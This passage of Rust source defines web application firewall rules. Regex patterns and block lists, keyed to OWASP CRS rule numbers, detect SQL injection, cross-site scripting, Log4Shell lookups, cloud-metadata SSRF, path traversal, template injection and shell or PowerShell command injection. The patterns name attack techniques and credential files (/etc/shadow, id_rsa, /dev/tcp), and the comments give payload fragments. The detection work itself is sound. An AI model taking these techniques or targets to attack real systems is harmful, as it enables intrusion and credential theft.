                r#"(?i)\bunion\b(?:\s|\(|/\*.*?\*/)*(?:all|distinct)?(?:\s|\()*select\b|\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file|sys_eval|dbms_pipe\.receive_message)\s*\(|\bwaitfor\s+delay\b|\binformation_schema\b|\bxp_cmdshell\b|\binto\s+(?:out|dump)file\b|\b(?:select|insert|update|delete)\b[^;]{0,100}\b(?:from|into|set)\b[^;]{0,100}\b(?:where\s*[\w.'"`()]+\s*(?:[=<>!]|like\s*['"]|in\s*\(|between\s+[\w'"]+\s+and\b|is\s+(?:not\s+)?null\b|rlike\b|regexp\b)|where\s+(?:\d+\s*(?:$|--|#|/\*)|(?:not\s+)?exists\s*\()|values\s*(?:\(|$)|limit\s+\d)|'\s*(?:or|and|\|\||&&)\s*'?\w*'?\s*(?:=|like|<|>)|;\s*(?:drop|truncate|alter|shutdown)\b"#,
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
        (
            "SC-SQLI-004",
            regex_in(
                inputs(),
                r"(?i)\b(?:find_in_set|group_concat|concat_ws|sqlite_\w+|pg_(?:sleep|read_file|ls_dir|client_encoding|user|database)|jsonb?_\w+|xp_\w+|dbms_\w+|utl_\w+|load_file|extractvalue|updatexml|name_const|row_count|found_rows|last_insert_id|make_set|elt|export_set|procedure\s+analyse)\s*\(|\b(?:version|database|schema|user|current_user|system_user|session_user|connection_id)\s*\(\s*\)|@@(?:version|datadir|hostname|basedir|tmpdir)\b|\b(?:information_schema|pg_catalog|pg_toast|sqlite_(?:temp_)?master|msysaccessobjects|msysobjects|master\.\.sysdatabases|northwind|tempdb|msdb|schema_name|sysobjects|syscolumns|sysusers|pg_shadow|dba_users|all_tables|mysql\.(?:user|db))\b|::\s*jsonb?\b|'\s*(?:@>|<@)",
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
        // SQL functions attackers call (CRS 942151, 942190): names no sentence uses may
        // be followed by space before their `(`; ordinary words (`char`, `length`,
        // `replace`, `user`...) only directly.
        (
            "SC-SQLI-005",
            regex_in(
                [inputs(), vec![Field::UriPath]].concat(),
                r"(?i)\b(?:xmltype|uncompress(?:ed_length)?|ifnull|nullif|coalesce|rawtohex|hextoraw|unhex|from_base64|to_base64|aes_(?:de|en)crypt|des_(?:de|en)crypt|sha[12]|md5|crc32|soundex|substring_index|bit_(?:and|or|xor|count|length)|char_length|octet_length|utl_inaddr\.\w+|sys_context|json_(?:extract|value|query|keys|search|unquote|contains)|st_astext|polygon|multipoint|geometrycollection|linestring|strcmp|sysdate|curdate|curtime|datediff|date_(?:add|sub|format)|from_unixtime|unix_timestamp|str_to_date|timestamp(?:add|diff)|inet6?_(?:aton|ntoa)|is_ipv[46]|uuid_short|get_lock|release_lock|master_pos_wait|regexp_(?:like|replace|substr|instr)|group_concat|bin_to_uuid|make_set|export_set|concat|compress|ord|db_name|schema_name|current_user|session_user|system_user|user_name|suser_s?name)\W*\(|\bdatabase(?:[^\w\s]{0,3}\(|\s*\(\s*(?:\)|$))|\b(?:user|decode|encode|hex|char|chr|ascii|substr|substring|mid|length|lower|upper|lcase|ucase|replace|reverse|position|instr|locate|cast|convert|concat|if|iif|least|greatest|floor|ceil|rand|insert|sin|cos|tan|cot|asin|acos|atan2?|exp|ln|log(?:2|10)?|sqrt|pow|power|round|truncate|abs|sign|mod|now|md5|sha|password|elt|field|format|lpad|rpad|ltrim|rtrim|trim|space|repeat|strcmp|count|avg|sum)[^\w\s]{0,3}\(",
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
        // SQL over JSON values: a quoted JSON document compared, cast or asked for a key
        // (`'{"a":"b"}' ? 'a'`; CRS 942550),
        // in the arguments and in the path (where some APIs take their filters).
        (
            "SC-SQLI-006",
            regex_in(
                [inputs(), vec![Field::UriPath]].concat(),
                r#"(?i)'\s*[\[{][^']*[\]}]\s*'\s*(?:::\s*jsonb?\b|<@|@>|->>?|#>>?|[<>]=?|=|\?[|&]?)|(?:<@|@>|->>?|#>>?)\s*'\s*[\[{$]"#,
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
        // NoSQL operators in arguments, their names or JSON keys: MongoDB's `$ne`,
        // `$where`, `$regex`... (CRS 942290).
        (
            "SC-SQLI-007",
            regex_in(
                inputs(),
                r"(?i)\$(?:ne|eq|gte?|lte?|n?in|nor|not|and|x?or|all|exists|type|where|regex|text|expr|elemMatch|size|slice|mod|div|like|between|jsonSchema)\b",
                &[UrlDecodeUni],
            ),
        ),
        // A quote that closes a string and goes on as SQL: `'x'!='y` (not `"Quote"! Next`),
        // `admin'; --`
        // (the first quote of the value followed by `;`), `' having`, `' union select`
        // (CRS 942190, 942540).
        (
            "SC-SQLI-008",
            regex_in(
                inputs(),
                r#"(?i)["'`]\s*!=\s*["'`\w]|["'`]\s*!\s*["'`]|^[^'"`]*['"`]\s*;|["'`]\s*;?\s*(?:having|union\s+(?:all|distinct|select)|select)\b\s*\S|\bexec(?:ute)?\s+master\.|\bfrom\W+information_schema\W"#,
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
        // SQL statements a value opens with (`1; DROP TABLE`, `/CREATE TABLE`), a column
        // renamed before `FROM`, `REGEXP` after a string, `load_file(` (CRS 942360).
        (
            "SC-SQLI-009",
            regex_in(
                inputs(),
                r#"(?i)^[^a-z]*\s*(?:create|drop|truncate|alter|rename)\s+(?:temporary\s+)?(?:table|database|schema|user|function|procedure|view|index|trigger)\b|^[^a-z]*\s*union\s+(?:all\s+)?select\b|["'`)\]*\d]\s+as\s*["'`]?\w+["'`]?\s+from\b|\bselect\b[^;]{0,100}\w\s+as\s*["'`]?\w+["'`]?\s+from\b|["'`]\s+(?:not\s+)?regexp\W|\bload_file\s*\("#,
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
        // SQL a value gives away without a call: `pg_sleep`, `waitfor delay` (also in a
        // Referer; CRS 942280), `execute immediate` (942250), `declare @x` (942320), MySQL's `1.e(` and `1.e.` (942560), `union` and
        // `select` run together (942270), and the numbers that overflow a 32-bit
        // integer or a double (942220).
        (
            "SC-SQLI-010",
            regex_in(
                [inputs(), vec![header("referer"), header("user-agent")]].concat(),
                r"(?i)\bpg_sleep\b|\bwaitfor\s+delay\b|\bexecute\s+immediate\b|\bdeclare\s+@\w|\b\d+\.e[.(]|unionselect|\b(?:4294967296|4294967295|2147483648|2\.2250738585072011e-308)\b",
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
        // PostgreSQL's casts (`password::int`, `unistr(x)::bool`; of a lowercase word, a
        // parenthesis, a quote or a number: not code's `Types::TEXT`) and large-object
        // functions (`lo_import(`, `lo_get(`), `div(23,-2)` (not Sass's `math.div(`), a
        // procedure created or `PROCEDURE ANALYSE(`, and `exec(@` (CRS 942320; not its
        // `; open`, which delivery notes and shop hours write, `Side gate; open 8-6`).
        (
            "SC-SQLI-011",
            regex_in(
                inputs(),
                r#"(?i)\bcreate\s+(?:function|procedure)\s*\w+\s*\(\s*\)\s*-|(?:^|[^.\w])div\s*\([+-]*[\s.\d]+,[+-]*[\s.\d]+\)|\bexec\s*\(\s*@|\b(?:lo_(?:import|get)|procedure\s+analyse)\s*\(|(?:[)'"\d]|(?-i:\b[a-z_][a-z_\d]*))::\s*(?:bigint|bool(?:ean)?|double\s+precision|int(?:eger|[248])?|numeric|oid|real|text|smallint)\b"#,
                &[UrlDecodeUni, ReplaceComments, CompressWhitespace],
            ),
        ),
    ]
}

fn xss() -> Vec<(&'static str, Statement)> {
    let fields = xss_fields();
    vec![
        (
            "SC-XSS-001",
            over(fields.clone(), |field| Statement::Xss {
                field,
                transforms: vec![UrlDecodeUni, HtmlEntityDecode, JsDecode, RemoveNulls],
            }),
        ),
        // Markup that runs script: script-bearing tags, script URLs, event handlers, CSS
        // expressions, and tags written in UTF-7 (`+ADw-script+AD4-`, for a page a
        // browser is made to read as UTF-7; CRS 941350).
        (
            "SC-XSS-002",
            Statement::Or(vec![
                regex_in(
                    fields.clone(),
                    r"(?i)<\s*/?\s*(?:script|iframe|object|embed|applet|svg|math|form|base|link|meta|frameset|isindex)\b|\b(?:java|vb|live)script\s*:|\bon(?:error|load|unload|mouse\w+|focus\w*|blur|click|dblclick|submit|change|input|key\w+|toggle|animation\w+|transition\w+|pointer\w+|begin|end|hashchange|pageshow|message|wheel|scroll|drag\w*|drop|copy|cut|paste|invalid|search|select|show|start|finish)\s*=|\bsrcdoc\s*=|data\s*:\s*text/html|\bexpression\s*\(|<\s*\w+[^>]*\bstyle\s*=[^>]*(?:expression|url)\s*\(",
                    &[
                        UrlDecodeUni,
                        HtmlEntityDecode,
                        JsDecode,
                        RemoveNulls,
                        CompressWhitespace,
                    ],
                ),
                // (In the values as they are, since URL decoding would make their `+` a
                // space, and decoded once more, for a `+` encoded twice.)
                regex_in(fields.clone(), UTF7_TAG, &[]),
                regex_in(fields, UTF7_TAG, &[UrlDecodeUni]),
            ]),
        ),
        (
            "SC-XSS-003",
            regex_in(
                inputs(),
                r"(?i)<\s*\w+\b[^>]*\b(?:on\w+|formaction|xlink:href|srcset|dynsrc|lowsrc|background|poster|action)\s*=|<\s*[a-z]\w*\b[^>]*\spattern\s*=|\b(?:eval|settimeout|setinterval|execscript|alert|prompt|confirm|atob|fromcharcode|importscripts)\s*(?:\(|`)|\b(?:window|self|top|parent|frames|globalthis|document)\s*\[\s*['\x22`]|['\x22`]\s*\+\s*['\x22`]\s*\]\s*\(|\.cookie\b[^;]{0,80};\W*(?:expires|domain)\W*=|\bhttp-equiv\W+set-cookie\b",
                &[
                    UrlDecodeUni,
                    HtmlEntityDecode,
                    JsDecode,
                    RemoveNulls,
                    CompressWhitespace,
                ],
            ),
        ),
        // Script without a tag: an event handler written after a separator (CRS 941120),
        // the DOM's sinks and sources and server-side includes (941180), the page's
        // globals reached through brackets or comments (941370), script functions
        // (941390), JSFuck's brackets (941360), script in a style's `url(` (941140), a
        // `data:` URL opening markup (941170), and a scheme spelt out with whitespace
        // between its letters (941210, 941220).
        (
            "SC-XSS-004",
            regex_in(
                without_path(xss_fields()),
                XSS_WITHOUT_TAGS,
                &[
                    UrlDecodeUni,
                    HtmlEntityDecode,
                    JsDecode,
                    RemoveNulls,
                    CompressWhitespace,
                ],
            ),
        ),
        // A script tag in any header (CRS 941110 reads them all but the cookies, which
        // the other rules read).
        (
            "SC-XSS-005",
            regex(
                Field::AllHeaders,
                r"(?i)<\s*script\b[^>]*>",
                &[UrlDecodeUni, HtmlEntityDecode],
            ),
        ),
        // An event handler that runs script, in any other header than the credentials
        // (`Remote-ip: ' onselect=alert(1) '`; CRS 941120 reads all but the cookies): a
        // page may echo any header. Its value is quoted, a list, or calls or indexes
        // something (or a `javascript:` URL), so that `baggage: onboarding=1` and a token
        // ending `+onXyz=` are no script; headers are read as sent, since no browser
        // escapes them.
        (
            "SC-XSS-006",
            regex(
                Field::HeadersButCredentials,
                r#"(?i)(?:^|[\s"'`;,(])on[a-z]{3,50}\s*=\s*(?:["'`\[]|[\w$.]+\s*[(`\[]|javascript:)"#,
                &[],
            ),
        ),
    ]
}

/// Where XSS is looked for: the arguments and their names, form and JSON bodies,
/// cookies, the path, and the headers a page may echo. (Tags are looked for in the path;
/// script without tags is not, where `/docs/document.cookie` is a page's name.)
/// A tag's `<` or `>` in UTF-7 (`+ADw-script+AD4-`).
const UTF7_TAG: &str = r"(?i)\+ADw-.*(?:\+AD4-|>)|<.*\+AD4-";

fn xss_fields() -> Vec<Field> {
    let mut fields = inputs();
    fields.push(Field::UriPath);
    fields.push(header("referer"));
    fields.push(header("user-agent"));
    fields
}

fn without_path(fields: Vec<Field>) -> Vec<Field> {
    fields
        .into_iter()
        .filter(|field| *field != Field::UriPath)
        .collect()
}

/// Script a request carries without a tag (see SC-XSS-004). An event handler follows a
/// space, a quote or a separator, not a digit or a `/` (base64 text has those). Also the
/// tags a browser reads that filters miss (CRS 941160, 941200): a name spelled with
/// spaces (`<f o r m`), behind a namespace (`< x: script`, `<v:vmlframe`), and a
/// handler right after the bracket (`<"onload=`). An XML entity declared to read a
/// file or a URL (`<!ENTITY % x SYSTEM`, CRS 941130). A tag written in US-ASCII's high
/// half (`\xbc/script\xbe`, once escapes are decoded; 941310): 0xBC for `<`, 0xBE for
/// `>`, each after an ASCII byte, which is never so in UTF-8 (where they only continue a
/// character: `¼`, `ü`), so that text in any language passes; a closing tag's name
/// after the `/`, so that Latin-1's "¼/½" passes too.
const XSS_WITHOUT_TAGS: &str = r#"(?i)(?:^|[\s"'`;=,(])on[a-z]{3,50}[\s,;(]*=(?:[^=]|$)|\bdocument\s*\.\s*(?:cookie|domain|write(?:ln)?|location|body|queryselector(?:all)?|getelementsby\w+|getelementbyid|createelement)\b|\bwindow\s*\.\s*location\b|\.\s*(?:innerhtml|outerhtml|parentnode)\b|-moz-binding|<!--\s*#\s*(?:set|echo|exec|include|config|printenv)\b|<!\[cdata\[|\b(?:self|document|this|top|window|parent|frames|globalthis)\s*(?:/\*[^*]*\*/\s*)*\)?\s*(?:\[\s*(?:/\*[^*]*\*/\s*)*["'`]|\.\s*(?:/\*[^*]*\*/\s*)*(?:cookie|domain|location|alert|eval)\b)|\b(?:btoa|atob)\s*(?:\(|`)|\bReflect\s*\.\s*\w+\s*\.\s*(?:call|apply)\s*(?:\(|`)|(?:^|[+(\[])\s*!+\[\]|!!\[\]|\[\+!*\[\]\]|\burl\s*\(\s*["']?\s*(?:java|vb)script|(?:^|[\s"'`;=])data\s*:[^,<]{0,60},\s*<|\b(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:|<\s*(?:[a-z]\s+){3,}[a-z]\b|<\s*\w*\s*:\s*(?:script|vmlframe)\b|\bvmlframe\b|["'`\s]formaction\s*=|<\s*["'`/]+\s*on[a-z]{3,50}\s*=|!entity\s+(?:%\s+)?\S+\s+(?:system|public)\b|(?:^|[\x00-\x7f])\xbc\s*/\s*[a-z][^\xbe>]*(?:>|[\x00-\x7f]\xbe)"#;

fn known_bad_inputs() -> Vec<(&'static str, Statement)> {
    let everywhere = || {
        let mut fields = inputs();
        fields.push(Field::UriPath);
        fields.push(Field::AllHeaders);
        fields
    };
    vec![
        // Log4Shell's lookups (`${jndi:`), nested, escaped, and with `$` and `{` written
        // as HTML entities (`$&lbrace;`, `&dollar;&lcub;`; CRS 944150).
        (
            "SC-KBI-001",
            regex_in(
                everywhere(),
                r"(?i)(?:\$|&dollar;?)(?:\{|&l(?:brace|cub);?)(?:[^}]*(?:\$|&dollar;?)(?:\{|&l(?:brace|cub);?))*[^}]*?(?:jndi|lower|upper|env|sys|java|date|base64|main|bundle|ctx|spring|k8s|docker|log4j|sd|web)\s*:",
                &[
                    UrlDecodeUni,
                    UrlDecodeUni,
                    JsDecode,
                    HtmlEntityDecode,
                    Lowercase,
                ],
            ),
        ),
        (
            "SC-KBI-002",
            over(everywhere(), |field| {
                any_of(
                    field,
                    &[
                        "169.254.169.254",
                        "metadata.google.internal",
                        "100.100.100.200",
                        "fd00:ec2::254",
                        "instance-data",
                        "0xa9fea9fe",
                        "2852039166",
                        "169.254.170.2",
                    ],
                    &[UrlDecodeUni],
                )
            }),
        ),
        (
            "SC-KBI-003",
            regex_in(
                vec![
                    Field::UriPath,
                    Field::AllQueryArguments,
                    Field::QueryArgumentNames,
                    Field::BodyFields,
                    Field::Cookies,
                    header("referer"),
                ],
                r"(?:^|[\\/])\.{2,}(?:[\\/]|$)|%(?:c0%ae|c0%af|c1%9c|e0%80%af|25(?:2e|2f|5c))",
                &[UrlDecodeUni, UrlDecodeUni],
            ),
        ),
        (
            "SC-KBI-004",
            over(
                vec![
                    Field::UriPath,
                    Field::AllQueryArguments,
                    Field::BodyFields,
                    Field::Cookies,
                ],
                |field| {
                    any_of(
                        field,
                        &[
                            "/etc/passwd",
                            "/etc/shadow",
                            "/etc/group",
                            "/etc/hosts",
                            "/etc/issue",
                            "/proc/self/",
                            "/proc/version",
                            "/var/log/",
                            "win.ini",
                            "boot.ini",
                            "system32/",
                            "/.htaccess",
                            "/.htpasswd",
                            "/.git/",
                            "/.svn/",
                            "/.env",
                            "web.config",
                            "/.ssh/",
                            "id_rsa",
                            "/.aws/credentials",
                            "/.bash_history",
                            // Compressed database dumps (CRS's list, found in the
                            // text as CRS finds them: `.sql.z` in `backup.sql.zip`).
                            ".sql.001",
                            ".sql.7z",
                            ".sql.bz",
                            ".sql.ace",
                            ".sql.arj",
                            ".sql.cpio",
                            ".sql.gz",
                            ".sql.lha",
                            ".sql.lz",
                            ".sql.pa",
                            ".sql.pea",
                            ".sql.r0",
                            ".sql.rar",
                            ".sql.rev",
                            ".sql.tar",
                            ".sql.taz",
                            ".sql.tbz",
                            ".sql.tgz",
                            ".sql.txz",
                            ".sql.uha",
                            ".sql.xz",
                            ".sql.yz1",
                            ".sql.z",
                        ],
                        &[UrlDecodeUni, UrlDecodeUni, NormalizePathWin, Lowercase],
                    )
                },
            ),
        ),
        (
            "SC-KBI-005",
            regex_in(
                vec![Field::AllQueryArguments, Field::BodyFields],
                r"(?i)^\s*(?:file|ftps?|https?|gopher|dict|ldap|tftp):/{0,2}(?:\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|\[[0-9a-f:]+\]|[0-9a-f]{0,4}:[0-9a-f]{0,4}:[0-9a-f:]*)|^\s*(?:ftps?|https?)://[^?#]*\?+\s*$|^\s*(?:file|ftps?|https?)[^?#\s/]*\?+\s*$|^\s*(?:file|gopher|dict|ldap|tftp|expect|jar|netdoc)://|^\s*data:[\w.+*-]+/[\w.+*-]+",
                &[UrlDecodeUni],
            ),
        ),
        // A session id in the request's arguments, from another site or from nowhere: a
        // session fixation (CRS 943110, 943120). A shop keeps its sessions in cookies.
        (
            "SC-KBI-006",
            Statement::And(vec![
                regex_in(
                    vec![Field::QueryArgumentNames, Field::BodyFields],
                    r"^(?:json\.)?(?:jsessionid|aspsessionid|asp\.net_sessionid|phpsession|phpsessid|weblogicsession|wlsession|session_?id|session-id|_session_id|cfid|cftoken|cfsid|jservsession|jwsession|zend_session_id|play_session|rack\.session|laravel_session|_rails_session|_flask_session|ci_session|cakephp|connect\.sid|sails\.sid|koa[.:]sess|(?:__(?:secure|host)-)?next-auth\.session-token|meteor_login_token|shiny-token)$",
                    &[Lowercase],
                ),
                Statement::Or(vec![
                    Statement::ForeignReferer,
                    Statement::Not(Box::new(present("referer"))),
                ]),
            ]),
        ),
        // Server-side JavaScript: node-serialize's function marker, `eval(`, `new
        // Function(`, `process.mainModule`, `require[`, `console.log(`, `child_process`...
        // (CRS 934100, 934150), also base64-encoded.
        (
            "SC-KBI-007",
            Statement::Or(vec![
                regex_in(generic(), NODE_INJECTION, &[UrlDecodeUni, JsDecode]),
                // Base64, maybe of JavaScript escapes or in them: one chain for the
                // three (escapes are decoded before and after, and neither changes
                // what has none).
                regex_in(
                    generic(),
                    NODE_IN_BASE64,
                    &[UrlDecodeUni, JsDecode, Base64Decode, JsDecode],
                ),
            ]),
        ),
        // A loop that never ends, to hold a server's event loop (CRS 934160): a condition
        // always true, and nothing else, in the parentheses ("while (2 left)" is text).
        (
            "SC-KBI-008",
            regex_in(
                generic(),
                r#"\bwhile\s*\([\s(]*(?:!+\s*(?:false|null|undefined|NaN|[+-]?0|""|''|``)|(?:!!)*(?:(?:true|this|[+-]?(?:Infinity|[1-9]\d*)|new\s+[A-Za-z]\w*|window|String|Boolean|Function|Object|Array)\b|\{[^}]*\}|\[[^\]]*\]|"[^"]+"|'[^']+'|`[^`]+`))[\s)]*\)"#,
                &[UrlDecodeUni, JsDecode],
            ),
        ),
        // A server-side request to the host itself, its containers' gateway or its
        // cluster, named without an address (CRS 934190), or to a cloud's metadata service
        // by name (CRS 934110).
        (
            "SC-KBI-009",
            regex_in(
                generic(),
                r"(?i)(?:^|[^\w.-])(?:localhost(?:\.localdomain)?|localhost4(?:\.localdomain4)?|ipv6-localhost|ip6-loopback|(?:host|gateway|kubernetes)\.docker\.internal|host\.containers\.internal|kubernetes\.default\.svc(?:\.cluster\.local)?|localtest\.me|lvh\.me)(?::\d+)?/|(?:^|[^\w.-])metadata\.(?:packet\.net|azure\.com|tencentyun\.com|platformequinix\.com)\b|\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\.nip\.io\b",
                &[UrlDecodeUni],
            ),
        ),
        // Template injection: an expression with a call, an operator or a dunder in a
        // template's braces (`{{7*7}}`, `#{7*7}`, `<%= 7*7 %>`, `{{''.__class__}}`; CRS
        // 934200).
        (
            "SC-KBI-010",
            regex_in(
                generic(),
                r"\{\{[^}]*?(?:[(*]|__)[^}]*?\}|#\{[^}]*?(?:[(*]|__)[^}]*?\}|<%=?\s*[^%]*?(?:[(*]|__)[^%]*?%>",
                &[UrlDecodeUni, HtmlEntityDecode],
            ),
        ),
        // A hidden file or directory in the path (`/.git/`, `/.env`, an AI assistant's
        // `/.claude/` or `/.cursor/`...; CRS 930130, 930140): a shop serves none, and
        // the well-known URIs (RFC 8615) are the one exception. (`..foo` is a name.)
        (
            "SC-KBI-011",
            Statement::And(vec![
                regex(
                    Field::UriPath,
                    r"(?:^|/)\.[^/.]",
                    &[UrlDecodeUni, NormalizePathWin],
                ),
                Statement::Not(Box::new(regex(
                    Field::UriPath,
                    r"^/\.well-known/[^/]",
                    &[UrlDecodeUni, NormalizePathWin],
                ))),
            ]),
        ),
        // The system's own files and directories named in a request (CRS 930120): the
        // kernel's `/proc` and `/sys`, account files, and credentials' directories.
        (
            "SC-KBI-012",
            regex_in(
                everywhere(),
                r"(?i)(?:^|[/\\=\s>'\x22])(?:etc/(?:sub[ug]id-?|gshadow-?|sudoers|crontab|master\.passwd|[s]?pwd\.db|security/|ssh/ssh\w*config|shells|profile|environment)|proc/(?:self|\d+|version|cpuinfo|meminfo|interrupts|mounts|net/|cmdline|environ|sched_debug|kcore)\b|sys/(?:class|kernel|devices|module|power|firmware|block|bus|fs)\b|\.(?:docker|kube|aws|gnupg|npmrc|pgpass|netrc|git-credentials)\b)",
                &[UrlDecodeUni, NormalizePathWin],
            ),
        ),
        // A URL given to a parameter that PHP applications known for remote file
        // inclusion build a path of (`mosConfig_absolute_path=http://`,
        // `_CONF[path]=https://`; PHP reads `.` and space in a name as `_`), or to
        // `include(` (CRS 931110).
        (
            "SC-KBI-014",
            Statement::Or(vec![
                regex(
                    Field::QueryString,
                    &format!(
                        r"(?i)(?:\binclude\s*\([^)&]*|{RFI_PARAMETERS})=(?:file|ftps?|https?)://"
                    ),
                    &[UrlDecodeUni],
                ),
                // In a form, the field's name and a URL among its values (the body as
                // sent would be one more scan of all of it).
                Statement::And(vec![
                    regex(
                        Field::BodyFields,
                        &format!(r"(?i)^(?:{RFI_PARAMETERS})$"),
                        &[UrlDecodeUni],
                    ),
                    regex(
                        Field::BodyFields,
                        r"(?i)^(?:file|ftps?|https?)://",
                        &[UrlDecodeUni],
                    ),
                ]),
            ]),
        ),
        // A path's dot-dots written in hex or closed by a `;` (`0x5c0x2e./`, `..;/`;
        // CRS 930100, 930110), in any field and header.
        (
            "SC-KBI-013",
            regex_in(
                everywhere(),
                r"(?i)(?:/|\\|0x2f|0x5c)(?:\.|0x2e)\x00?(?:\.|0x2e)\x00?(?:/|\\|0x2f|0x5c)|(?:0x2f|0x5c)(?:\.|0x2e)\x00?(?:\.|0x2e)|(?:^|[/\\;])\.\.;",
                &[UrlDecodeUni, UrlDecodeUni],
            ),
        ),
    ]
}

/// Where the generic attacks (server-side JavaScript, template injection, requests to
/// the host itself) are looked for: the arguments and their names, form and JSON
/// bodies, cookies, and the path.
fn generic() -> Vec<Field> {
    let mut fields = inputs();
    fields.push(Field::UriPath);
    fields
}

/// What server-side JavaScript sent in base64 gives away (SC-KBI-007).
const NODE_IN_BASE64: &str = r"_\$\$ND_FUNC\$\$_|__js_function|\beval\s*\(|new\s+Function\s*\(|\bwhile\s*\(\s*(?:true|1|!0|!!\[\])\s*\)";

/// Server-side JavaScript an injection runs (CRS 934100's signs).
const NODE_INJECTION: &str = r#"_\$\$ND_FUNC\$\$_|__js_function|\beval\s*\(|\bnew\s+Function\s*\(|String\.fromCharCode|Module:prototype|\bfunction\s*\(\s*\)\s*\{|this\.constructor|module\.exports\s*=|\(\s*\W?child_process\W?\s*\)|constructor:constructor|\bconsole\s*(?:\.\s*(?:debug|log|error|info|trace|warn)(?:\.call)?\s*\(|\[\s*["'`](?:debug|log|error|info|trace|warn)["'`]\s*\])|\bprocess\s*(?:\.\s*(?:mainModule|binding|dlopen|kill|exit|abort|chdir|env|execPath|setuid|setgid|umask)\b|\[)|\brequire\s*\[|\brequire\s*\(\s*["'`](?:child_process|fs|net|http|os|vm)\b|Process\s*\.\s*spawn\s*\("#;

fn command_injection() -> Vec<(&'static str, Statement)> {
    let fields = || {
        let mut fields = inputs();
        fields.push(header("user-agent"));
        fields.push(header("referer"));
        fields
    };
    vec![
        // A command after a shell separator (maybe in a subshell's parenthesis:
        // `&&(sh)`; CRS 932230), a line break among them. Commands that are also words or
        // names ([`COMMAND_WORDS`]: "Diamond & Ruby", "Nice fit; more photos soon", a
        // review's line "cat & dog love it") count right after `;`, `&`, `|` or a
        // backquote (`;id`, `|cat /x`), after `&&`, `||` or `$(`, ended as a command
        // word ends ([`COMMAND_END`]: not `&id=7`, a query string in a return URL), or after a separator
        // and a space, or a line break, only with [`SHELL_ARGUMENTS`] after them. A
        // command named by its path (`/bin/cat x`) counts after any separator. (The path
        // is a branch after the separator, not an expression of its own, whose rarest
        // part, `/`, would be its needle: every review holds one, and would be copied and
        // scanned again; a test checks the separators stay the needles.)
        (
            "SC-CMD-001",
            regex_in(
                fields(),
                &format!(
                    r"(?i)(?:[;&|`\n\r]|\$\(|\|\||&&)\s*\(?\s*(?:{BIN}(?:{COMMANDS})\b|/(?:usr/)?(?:local/)?s?bin/\w)|(?:[;&|`]|(?:\$\(|\|\||&&)\s*)\(?{BIN}(?:{COMMAND_WORDS}){COMMAND_END}|[;&|`\n\r]\s*\(?\s*{BIN}(?:{COMMAND_WORDS}){SHELL_ARGUMENTS}"
                ),
                &[UrlDecodeUni, RemoveNulls, RemoveShellQuotes],
            ),
        ),
        (
            "SC-CMD-002",
            regex_in(
                fields(),
                r"\$\([^)]{1,200}\)|`[^`]{1,200}`|\$\{IFS\}|/bin/(?:ba|z|k|da)?sh\b|/dev/(?:tcp|udp)/|;\s*\w+\s*=\s*\$\(|\|\s*(?:ba|z)?sh\b",
                &[UrlDecodeUni, RemoveNulls],
            ),
        ),
        // Windows commands at a value's start or after `&`, `|` or a backquote (CRS
        // 932110; command-line normalisation makes `;` and line breaks spaces); `type`
        // only with a file after it (a drive and a path, a variable, `..`, or a name with
        // an extension), since "Type C cable" and "Type C: fast charging" are searches.
        (
            "SC-CMD-003",
            regex_in(
                fields(),
                r"(?i)(?:^|[;&|`\n\r])\s*(?:cmd(?:\.exe)?\s*/[ck]|powershell(?:\.exe)?|pwsh|certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript|net\s+(?:user|localgroup)|ipconfig|tasklist|taskkill|systeminfo|reg\s+(?:query|add|delete)|wmic|schtasks|type\s+(?:[a-z]:\S|%|\.\.|\S*[a-z_-]\.[a-z][a-z0-9]{1,9}\b)|dir\s+\S*[\\/])",
                &[UrlDecodeUni, CmdLine],
            ),
        ),
        (
            "SC-CMD-004",
            regex_in(
                fields(),
                r"(?i)\bfor\s+(?:/[a-z]\s+(?:\x22[^\x22]*\x22\s+)?)?%%?~?[a-z0-9]+\s+in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\b",
                &[UrlDecodeUni],
            ),
        ),
        (
            "SC-CMD-005",
            regex_in(
                fields(),
                r"\)\s*\(\s*[|&!]\s*\(?|\*\)\s*\(\s*\w+\s*[<>~]?=|\)\s*\(\s*\w+\s*=\s*\*",
                &[UrlDecodeUni],
            ),
        ),
        // Shell expressions: command and parameter substitution, process substitution,
        // and globs that spell a path without writing it (`/etc/pa[s]swd`, CRS 932130).
        (
            "SC-CMD-006",
            regex_in(
                fields(),
                r"\$(?:\((?:.*|\(.*\))\)|\{.*\})|[<>]\(.*\)|/[0-9A-Z_a-z]*\[!?.+\]",
                &[UrlDecodeUni, RemoveNulls],
            ),
        ),
        // PowerShell: its web and execution cmdlets, and their short aliases after a
        // separator (CRS 932120, 932125).
        (
            "SC-CMD-007",
            regex_in(
                fields(),
                r"(?i)\b(?:invoke-(?:webrequest|expression|command|restmethod|item|wmimethod)|start-process|new-object\s+(?:net\.webclient|system\.net)|downloadstring|downloadfile|set-executionpolicy|get-wmiobject)\b|(?:^|[;&|`(])\s*(?:iwr|iex|irm|iwmi|icm|saps)\b",
                &[UrlDecodeUni, RemoveNulls],
            ),
        ),
        // Windows `for` loops and `if` comparisons (CRS 932140), read as cmd.exe reads
        // them.
        (
            "SC-CMD-008",
            regex_in(
                fields(),
                r"\b(?:if(?:/i)?(?: not)?(?: exist\b| defined\b| errorlevel\b| cmdextversion\b|(?: |\().*(?:\bgeq\b|\bequ\b|\bneq\b|\bleq\b|\bgtr\b|\blss\b|==))|for(?:/[dflr].*)? %+[^ ]+ in\(.*\)\s?do)",
                &[UrlDecodeUni, CmdLine],
            ),
        ),
        // Shell expansions a command is hidden in: braces listing words (`{l,-lh}s`,
        // `{,ifconfig}`; CRS 932280), the tilde's directory stack (`~+`, `~-1`; 932270),
        // an alias defined on the spot (932175), and a shell named by its variable or its
        // path (`$SHELL -c`, `bin/busybox`, `/bin/ab`; 932160).
        (
            "SC-CMD-009",
